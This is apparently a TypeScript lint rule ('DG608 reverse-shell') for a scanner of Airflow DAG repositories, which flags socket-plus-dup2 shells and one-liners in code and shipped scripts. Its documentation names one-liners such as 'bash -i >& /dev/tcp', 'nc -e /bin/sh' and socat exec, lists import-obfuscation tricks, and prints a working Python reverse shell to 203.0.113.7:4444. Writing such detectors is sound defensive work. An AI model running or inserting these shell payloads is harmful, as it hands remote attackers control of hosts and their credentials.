import type { SyntaxNode } from 'tree-sitter';
import { defineRule } from '../../src/engine/rule';
import { argStrings, factsOf } from './_facts';
import { mayReverseShell, shapesInText, SHELL_BINARY, SHELL_REVERSE, stringsWithShape } from './_shell-shapes';

export default defineRule({
  meta: {
    id: 'DG608',
    name: 'reverse-shell',
    category: 'malicious',
    severity: 'critical',
    message: 'reverse shell: {how}',
    docs: {
      what:
        'Finds the shapes of a reverse shell, anywhere in the file: a socket, `os.dup2` of its descriptors and a shell (`pty.spawn`, or `/bin/sh`/`bash -i` started by `subprocess`/`os.exec*`) in the same file; a shell started with a socket\'s `fileno()` as its stdin/stdout; and shell one-liners in strings (`bash -i >& /dev/tcp/host/port`, `nc -e /bin/sh`, `mkfifo … | nc`, `socat … exec:`), e.g. in a `BashOperator` command. Modules reached through importer aliases count (`imp = __import__; so = imp("socket")`, `m = getattr(__builtins__, "__imp" + "ort__"); m("so" + "cket")`), as does a shell started in a forked child.',
      why:
        'A reverse shell hands an interactive shell on the Airflow host — scheduler, dag-processor or worker, with their credentials — to whoever listens at the other end. There is no legitimate reason for these shapes in a DAG repository.',
      example:
        '```python\nimport os, pty, socket\ns = socket.socket()\ns.connect(("203.0.113.7", 4444))\nfor fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\npty.spawn("/bin/sh")\n```',
      useInstead: 'Remove it, and treat the repository as compromised: rotate the credentials the scheduler and workers can read.',
    },
  },
  // Shell one-liners are found in the raw text, then located in the tree (cheaper than a `(string)` query).
  // shell scripts and configuration shipped with the DAGs (`include/scripts/warm_cache.sh` starting `bash -i >&
  // /dev/tcp/…` in the background): the same shapes in their text
  onDataFile(ctx) {
    const kind = ctx.file.dataKind;
    if (kind === 'sql' || kind === 'pgpass' || kind === 'netrc' || kind === 'requirements') return;
    shapesInText(ctx.file.text, mayReverseShell, SHELL_REVERSE, (start, end) =>
      ctx.reportRange(start, end, { how: `a shell one-liner in \`${ctx.file.path.split('/').pop()}\` connects a shell to a remote host` }),
    );
  },
  onFile(ctx) {
    const facts = factsOf(ctx);
    stringsWithShape(ctx, mayReverseShell, SHELL_REVERSE, (s) =>
      ctx.report(s, { how: 'shell one-liner that connects a shell to a remote host' }),
    );
    if (!facts.socket) return;
    const dup2: SyntaxNode[] = [];
    const shells: SyntaxNode[] = [];
    for (const f of facts.calls) {
      if (f.kinds.has('dup2')) dup2.push(f.call);
      else if (f.fn === 'pty.spawn') shells.push(f.call);
      else if (f.kinds.has('spawn')) {
        const args = argStrings(f.call);
        if (SHELL_BINARY.test(args)) {
          if (/\bfileno\s*\(/.test(f.call.text)) {
            ctx.report(f.call, { how: 'a shell whose input and output are a socket' });
            continue;
          }
          shells.push(f.call);
        }
      }
    }
    if (dup2.length && shells.length) {
      ctx.report(dup2[0], { how: 'socket descriptors duplicated onto stdin/stdout and a shell spawned' });
    }
  },
});
